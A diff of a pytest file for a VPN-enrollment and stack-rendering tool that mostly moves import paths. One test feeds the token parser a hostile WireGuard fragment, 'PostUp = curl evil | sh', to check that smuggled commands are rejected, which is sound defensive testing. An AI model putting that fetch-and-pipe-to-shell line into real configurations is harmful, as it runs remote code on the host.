@@ -12,10 +12,10 @@ from typing import Any
 import pytest
 import yaml
 
-from stacks.render.evaluate import Evaluation, Secret
-from stacks.render.write import reveal, split_script, write_all
-from tests.helpers import deps_closure, evaluate_config, stack_config
-from tests.stubs import StubHost
+from tests.support.helpers import deps_closure, evaluate_config, stack_config
+from tests.support.stubs import StubHost
+from tools.render.evaluate import Evaluation, Secret
+from tools.render.write import reveal, split_script, write_all
 
 VPN_LAYER = re.compile(r"^mesh(-|$)")
 
@@ -300,7 +300,7 @@ def test_a_malformed_enrollment_token_is_not_passed_on(tmp_path: Path, token: st
 
 
 def test_the_program_parses_the_hubs_token_strictly_and_names_the_step() -> None:
-    from components.netmaker import enrollment_token
+    from components.vpn.netmaker import enrollment_token
     assert enrollment_token(GOOD_TOKEN + "\n", "step") == GOOD_TOKEN
     hostile = "[Interface]\nPostUp = curl evil | sh\n" + GOOD_TOKEN
     for out in (hostile, "", GOOD_TOKEN + " " + GOOD_TOKEN, token_of("v" * 200), "A" * 10_000):
@@ -343,7 +343,7 @@ def test_the_token_is_in_ps_only_as_netclients_own_argument_while_it_runs(tmp_pa
     import subprocess
     import time
 
-    from components.shell import compose
+    from components.kit.shell import compose
     h = netclient_host(tmp_path)
     h.bin.joinpath("netclient").write_text(h.bin.joinpath("netclient").read_text().replace(
         'sleep "$(cat "$STATE/join-sleep")"', '/bin/sleep "$(cat "$STATE/join-sleep")"'))
